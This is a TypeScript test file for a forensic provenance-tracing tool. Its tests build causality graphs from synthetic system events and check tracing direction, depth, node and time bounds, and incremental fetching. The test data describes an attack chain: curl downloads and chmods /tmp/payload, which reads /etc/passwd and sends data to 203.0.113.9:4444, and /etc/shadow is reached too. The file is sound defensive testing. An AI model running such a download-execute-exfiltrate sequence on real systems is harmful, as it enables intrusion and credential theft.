/**
 * Tracking through a source: what a trace reaches, which bound cut it, and that it only fetched what it needed.
 */
import { describe, expect, test } from 'bun:test';
import { graphFromEvents, traceGraph } from '../index.ts';
import { parsePoi } from '../poi.ts';
import { MemorySource } from '../source.ts';
import { EventFactory, syntheticWorkload, type ProcRef } from '../synthetic.ts';
import { edgeNames, edges, nodeLabels } from './helpers.ts';

/** curl downloads /tmp/payload; an older run of /tmp/payload predates the download; the new one calls out. */
function download() {
  const f = new EventFactory();
  const shell = f.running(100, '/usr/bin/bash', { args: ['bash'] });
  const old = f.spawn(shell, 101, '/tmp/payload'); // before the download: not an effect of it
  f.connect(old, '203.0.113.99', 80);
  f.end(old);
  const curl = f.spawn(shell, 102, '/usr/bin/curl', ['curl', '-o', '/tmp/payload', 'http://203.0.113.5/p']);
  f.connect(curl, '203.0.113.5', 80);
  f.receive(curl, '203.0.113.5', 80, 90_000);
  const write = f.create(curl, '/tmp/payload');
  f.write(curl, '/tmp/payload', 90_000);
  f.end(curl);
  const chmod = f.spawn(shell, 103, '/usr/bin/chmod', ['chmod', '+x', '/tmp/payload']);
  f.chmod(chmod, '/tmp/payload', '0755');
  const payload = f.spawn(shell, 104, '/tmp/payload');
  f.readFile(payload, '/etc/passwd');
  f.connect(payload, '203.0.113.9', 4444);
  f.send(payload, '203.0.113.9', 4444, 3000);
  return { events: f.events, write };
}

describe('forward tracking', () => {
  test('from a downloaded file: the process that executed it, and its later connection', async () => {
    const { events, write } = download();
    // from the moment it was written: the earlier run of /tmp/payload is not an effect of this download
    const g = await graphFromEvents(events, { poi: `event:${write.event.id}`, direction: 'forward' });
    expect(edges(g, 'exec', '/tmp/payload', 'payload[104]').length).toBe(1);
    expect(edges(g, 'connect', 'payload[104]', '203.0.113.9:4444').length).toBe(1);
    expect(nodeLabels(g)).not.toContain('payload[101]');
    expect(nodeLabels(g)).not.toContain('203.0.113.99:80');
    // the summary tells it in order
    const texts = g.summary.map((l) => l.text);
    const execAt = texts.findIndex((t) => t.startsWith('payload[104] executed /tmp/payload'));
    const connAt = texts.findIndex((t) => t.startsWith('payload[104] connected to 203.0.113.9:4444'));
    expect(execAt).toBeGreaterThanOrEqual(0);
    expect(connAt).toBeGreaterThan(execAt);
  });

  test('from the file as a whole, every execution of it is an effect', async () => {
    const { events } = download();
    const g = await graphFromEvents(events, { poi: 'file:/tmp/payload', direction: 'forward' });
    expect(nodeLabels(g)).toContain('payload[101]');
    expect(nodeLabels(g)).toContain('payload[104]');
  });

  test('backward from the call-out finds the download source through the file that links the processes', async () => {
    const { events } = download();
    const g = await graphFromEvents(events, { poi: 'ip:203.0.113.9:4444' });
    const names = edgeNames(g);
    expect(names).toContain('exec /tmp/payload -> payload[104]');
    expect(names.some((n) => n.startsWith('write curl[102] -> /tmp/payload'))).toBe(true);
    expect(names.some((n) => n.startsWith('connect curl[102] -> 203.0.113.5:80'))).toBe(true);
    expect(nodeLabels(g)).not.toContain('payload[101]');
  });
});

describe('bounds and truncation', () => {
  /** p0 → p1 → … → p6 (each spawned by the previous), p6 connects out. */
  function chain() {
    const f = new EventFactory();
    let p: ProcRef = f.running(100, '/usr/bin/init0');
    const procs = [p];
    for (let i = 1; i <= 6; i++) {
      f.wait(1000);
      p = f.spawn(p, 100 + i, `/usr/bin/step${i}`);
      procs.push(p);
    }
    f.connect(p, '198.51.100.7', 443);
    return { events: f.events, procs };
  }

  test('no bound hit: nothing reported truncated', async () => {
    const { events } = chain();
    const g = await graphFromEvents(events, { poi: 'ip:198.51.100.7:443', reduce: false });
    expect(g.truncated).toEqual({});
    expect(nodeLabels(g)).toContain('init0[100]');
  });

  test('depth', async () => {
    const { events } = chain();
    const g = await graphFromEvents(events, { poi: 'ip:198.51.100.7:443', maxDepth: 3, reduce: false });
    expect(g.truncated.depth).toBe(true);
    expect(nodeLabels(g)).not.toContain('init0[100]');
    const exact = await graphFromEvents(events, { poi: 'ip:198.51.100.7:443', maxDepth: 20, reduce: false });
    expect(exact.truncated.depth).toBeUndefined();
  });

  test('node budget', async () => {
    const { events } = chain();
    const g = await graphFromEvents(events, { poi: 'ip:198.51.100.7:443', maxNodes: 4, reduce: false });
    expect(g.truncated.nodes).toBe(true);
    expect(g.stats.nodes_before).toBeLessThanOrEqual(4);
  });

  test('time window', async () => {
    const { events, procs } = chain();
    const cut = await graphFromEvents(events, { poi: 'ip:198.51.100.7:443', from: procs[3]!.start, reduce: false });
    expect(cut.truncated.window).toBe(true);
    expect(nodeLabels(cut)).not.toContain('init0[100]');
    const whole = await graphFromEvents(events, { poi: 'ip:198.51.100.7:443', from: '2024-12-31T00:00:00Z', reduce: false });
    expect(whole.truncated.window).toBeUndefined();
  });

  test('event budget', async () => {
    const { events } = chain();
    const g = await graphFromEvents(events, { poi: 'ip:198.51.100.7:443', maxEvents: 4, pageSize: 2, reduce: false });
    expect(g.truncated.events).toBe(true);
  });
});

describe('incremental fetching', () => {
  test('a trace asks only for its frontier, never for everything', async () => {
    const w = syntheticWorkload({ packages: 30, filesPerPackage: 30, requests: 60 });
    const source = new MemorySource(w.events);
    const g = await traceGraph(source, { poi: parsePoi('ip:127.0.0.1:9999') });
    expect(nodeLabels(g)).toContain('/etc/shadow');
    // every query names what it wants
    for (const { query } of source.log) {
      const selectors = (query.entityIds?.length ?? 0) + (query.paths?.length ?? 0) + (query.endpoints?.length ?? 0) + (query.eventIds?.length ?? 0);
      expect(selectors).toBeGreaterThan(0);
    }
    // and the trace read a small part of the data
    expect(source.returned).toBeLessThan(source.size / 3);
    expect(g.stats.events).toBeLessThan(source.size / 3);
  });

  test('paging through a small page size reads the same graph', async () => {
    const w = syntheticWorkload({ packages: 6, filesPerPackage: 5, requests: 6 });
    const big = await graphFromEvents(w.events, { poi: 'file:/tmp/.x.sh', direction: 'both' });
    const small = await graphFromEvents(w.events, { poi: 'file:/tmp/.x.sh', direction: 'both', pageSize: 7 });
    expect(small).toEqual(big);
  });

  test('both directions from a process: its causes and its effects', async () => {
    const w = syntheticWorkload({ packages: 4, filesPerPackage: 5, requests: 4 });
    const payload = w.attack!.payload;
    const g = await graphFromEvents(w.events, { poi: `process:${payload.entityId}`, direction: 'both' });
    const labels = nodeLabels(g);
    expect(labels).toContain(`curl[${w.attack!.downloader.pid}]`); // cause (through /tmp/.x.sh)
    expect(labels).toContain(`rm[${w.attack!.remover.pid}]`); // effect
    expect(labels).toContain('127.0.0.1:9999'); // effect
    expect(g.nodes.find((n) => n.poi)?.label).toBe(`.x.sh[${payload.pid}]`);
  });
});

describe('labels', () => {
  test('endpoints reached by a trace are labelled from DNS answers in the window', async () => {
    const f = new EventFactory();
    const p = f.running(100, '/usr/bin/curl');
    f.readFile(p, '/etc/hosts');
    f.connect(p, '198.51.100.20', 443);
    // a passive-DNS answer (no process of its own in real captures)
    f.dns(f.running(1, '/usr/lib/systemd/systemd-resolved'), 'updates.example.net', ['198.51.100.20']);
    const g = await graphFromEvents(f.events, { poi: `process:${p.entityId}`, direction: 'forward' });
    expect(nodeLabels(g)).toContain('updates.example.net (198.51.100.20:443)');
  });
});
